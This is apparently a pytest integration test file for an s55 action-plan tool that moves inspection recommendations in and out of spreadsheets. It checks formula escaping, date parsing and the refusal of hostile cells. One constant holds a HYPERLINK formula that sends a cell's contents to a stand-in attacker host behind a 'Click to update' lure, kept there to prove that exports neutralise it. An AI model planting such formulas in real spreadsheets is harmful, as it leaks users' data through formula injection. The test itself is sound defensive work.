"""Action plans as spreadsheets (issue 13): exported and imported back (.xlsx with openpyxl,
and .csv), an office's own plan laid out its own way, and hostile cells: formulas both ways,
huge text, wrong dates, unknown columns and actions. A refused import changes nothing. On
SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from s55.domain.errors import InvalidInput, NotPermitted
from s55.services import actions, plans, reading
from s55.store import repo
from tests.conftest import AUDITOR, CHIEF_CONSTABLE, OPCC, STAFF_OFFICER, make_ctx
from tests.integration.test_actions import copies_sent

WHEN = datetime(2022, 10, 3, 9, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click to update")'


@pytest.fixture
def ctx(home, db_url):
    return make_ctx(home, db_url, when=WHEN)


def versions(ctx, ref) -> dict[str, int]:
    return {a["action"]: a["version"] for a in actions.listing(ctx, actor=AUDITOR, report=ref)}


def test_the_plan_goes_out_and_comes_back_and_text_is_never_a_formula(ctx, seed_text, tmp_path):
    ref = copies_sent(ctx, seed_text)
    r1, c1 = f"{ref}/R1", f"{ref}/C1"
    actions.assign(ctx, actor=OPCC, name=r1, owner=STAFF_OFFICER, target=date(2023, 3, 31))
    actions.update(ctx, actor=OPCC, name=c1, status="not accepted", reason=HOSTILE)
    actions.update(ctx, actor=STAFF_OFFICER, name=r1, note=HOSTILE, evidence="Pilot report")

    book_path = tmp_path / "plan.xlsx"
    assert plans.export(ctx, actor=OPCC, path=book_path) == len(versions(ctx, ref))
    sheet = load_workbook(book_path).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Action", "Report", "Item"]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    reason = rows[c1][header.index("Reason not accepted")]
    assert (reason.value, reason.data_type) == (HOSTILE, "s")  # a string, not a formula
    target = rows[r1][header.index("Target date")]
    assert target.value.date() == date(2023, 3, 31) and target.is_date
    csv_path = tmp_path / "plan.csv"
    plans.export(ctx, actor=OPCC, path=csv_path)
    with csv_path.open(encoding="utf-8-sig") as fh:
        written = {r["Action"]: r for r in csv.DictReader(fh)}
    assert written[c1]["Reason not accepted"] == "'" + HOSTILE
    # what the owner last reported goes out too (to read: an import leaves it), as text
    last = rows[r1][header.index("Last note")]
    assert (last.value, last.data_type) == (HOSTILE, "s")
    assert rows[r1][header.index("Last evidence")].value == "Pilot report"
    assert (written[r1]["Last note"], written[r1]["Update"]) == ("'" + HOSTILE, "")

    # untouched, both come back as they went: nothing changes
    for path in (book_path, csv_path):
        plan = plans.read_plan(ctx, actor=OPCC, path=path)
        assert (plan.changes, plan.unchanged) == ([], len(rows))

    # the board's secretary fills in the plan in Excel: owner, date, status, an update
    book = load_workbook(book_path)
    sheet = book.active
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == c1:
            row[header.index("Owner")].value = CHIEF_CONSTABLE
            row[header.index("Target date")].value = datetime(2023, 6, 30)
            row[header.index("Status")].value = "In progress"
            row[header.index("Update")].value = "Agreed with HMICFRS after all"
            row[header.index("Evidence")].value = "Letter of 2 May"
    book.save(book_path)
    before = versions(ctx, ref)
    plan = plans.read_plan(ctx, actor=OPCC, path=book_path)
    assert [c.name for c in plan.changes] == [c1]
    assert plans.apply_plan(ctx, actor=OPCC, plan=plan, source="plan.xlsx") == [
        f"{c1}: version {before[c1] + 1} (owner, target, status, update)"]
    now = {a["action"]: a for a in actions.listing(ctx, actor=AUDITOR, report=ref)}[c1]
    assert (now["owner"], now["target"], now["status"]) == (
        CHIEF_CONSTABLE, "2023-06-30", "in progress")
    history = actions.updates(ctx, actor=AUDITOR, name=c1)
    assert history[-1]["note"] == "Agreed with HMICFRS after all"
    with ctx.uow(read=True) as session:
        last = repo.audit_entries(session, ref, "update an action")[-1]
    assert last.details["from"] == "plan.xlsx, row 4" or last.details["from"].startswith(
        "plan.xlsx, row ")
    assert reading.verify_audit(ctx, actor=AUDITOR).ok


def test_an_office_s_own_plan_laid_out_its_own_way(ctx, seed_text, tmp_path):
    ref = copies_sent(ctx, seed_text)
    book = Workbook()
    sheet = book.active
    sheet.append(["Ref", "Recommendation", "Lead", "Due date", "Status", "RAG status",
                  "Progress update"])
    sheet.append([f"{ref}/R1", "(the text, as the office keeps it)", STAFF_OFFICER,
                  "31/03/2023", "Ongoing", "Amber", "Triage pilot started"])
    sheet.append([f"{ref}/A1", "", CHIEF_CONSTABLE, datetime(2023, 1, 31), "Completed",
                  "Green", "New recording audit in place"])
    sheet.append([None] * 7)  # an empty row is nothing
    path = tmp_path / "office-plan.xlsx"
    book.save(path)
    plan = plans.read_plan(ctx, actor=OPCC, path=path)
    assert [(c.name, c.owner, c.target, str(c.status)) for c in plan.changes] == [
        (f"{ref}/R1", STAFF_OFFICER, date(2023, 3, 31), "in progress"),
        (f"{ref}/A1", CHIEF_CONSTABLE, date(2023, 1, 31), "complete")]
    done = plans.apply_plan(ctx, actor=OPCC, plan=plan, source=path.name)
    assert done[0] == f"{ref}/R1: version 2 (owner, target, status, update)"
    marks = {a["action"]: a["rag"] for a in actions.listing(ctx, actor=AUDITOR, report=ref)}
    assert marks[f"{ref}/A1"] == "green"  # derived from the status, never the sheet's RAG
    # the same plan imported again: nothing changes, and no update is recorded twice
    again = plans.read_plan(ctx, actor=OPCC, path=path)
    assert (again.changes, again.unchanged) == ([], 2)
    assert f"{ref}/R1 (row 2): its update is the action's latest already; not recorded " \
        "again" in again.notes
    assert [u["note"] for u in actions.updates(ctx, actor=AUDITOR, name=f"{ref}/R1")] == [
        "Triage pilot started"]


HOSTILE_CELLS = [
    ("G", "=SUM(1,2)", "has formulas, which an import never runs: G2"),
    ("G", "x" * 30_000, "G2: is 30000 characters long; the most is 20000"),
    ("D", "31/02/2023", "D2: '31/02/2023' is not a date"),
    ("D", "next March", "D2: 'next March' is not a date"),
    ("E", "Sort of", "E2: 'Sort of' is not a status"),
    ("C", "someone@elsewhere.invalid", "C2: 'someone@elsewhere.invalid' is not a person of the "
                                       "office"),
    ("A", "S55-2022-0001/R99", "A2: S55-2022-0001 has no recommendation 99 to follow up"),
    ("A", "=HYPERLINK(\"x\")", "has formulas, which an import never runs: A2"),
    ("H", "Budget", "H1: 'Budget' is not a column s55 reads or writes"),
]


def test_a_hostile_cell_is_refused_naming_it_and_nothing_changes(ctx, seed_text, tmp_path):
    ref = copies_sent(ctx, seed_text)
    assert ref == "S55-2022-0001"
    before = versions(ctx, ref)
    for n, (cell, value, said) in enumerate(HOSTILE_CELLS):
        row = {"A": f"{ref}/R1", "B": "", "C": STAFF_OFFICER, "D": "31/03/2023",
               "E": "In progress", "F": "Amber", "G": "Pilot"}
        header = ["Action", "Text", "Owner", "Target date", "Status", "RAG", "Update"]
        if cell == "H":
            header.append(value)
            row["H"] = "1000"
        else:
            row[cell] = value
        book = Workbook()
        book.active.append(header)
        book.active.append([row[k] for k in sorted(row)])
        path = tmp_path / f"plan-{n}.xlsx"
        book.save(path)
        with pytest.raises(InvalidInput, match="nothing was imported|has formulas") as refused:
            plans.read_plan(ctx, actor=OPCC, path=path)
        assert said in str(refused.value), (cell, value[:20])
        assert versions(ctx, ref) == before


def test_only_the_office_imports_a_plan_and_a_broken_file_is_named(ctx, seed_text, tmp_path):
    copies_sent(ctx, seed_text)
    path = tmp_path / "plan.xlsx"
    plans.export(ctx, actor=OPCC, path=path)
    with pytest.raises(NotPermitted, match="the role 'chief officer' may not assign an action"):
        plans.read_plan(ctx, actor=STAFF_OFFICER, path=path)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(InvalidInput, match="is not an .xlsx workbook that can be read"):
        plans.read_plan(ctx, actor=OPCC, path=broken)
    with pytest.raises(InvalidInput, match="save it as .xlsx or .csv"):
        plans.read_plan(ctx, actor=OPCC, path=tmp_path / "plan.xls"
                        if (tmp_path / "plan.xls").write_bytes(b"x") else None)
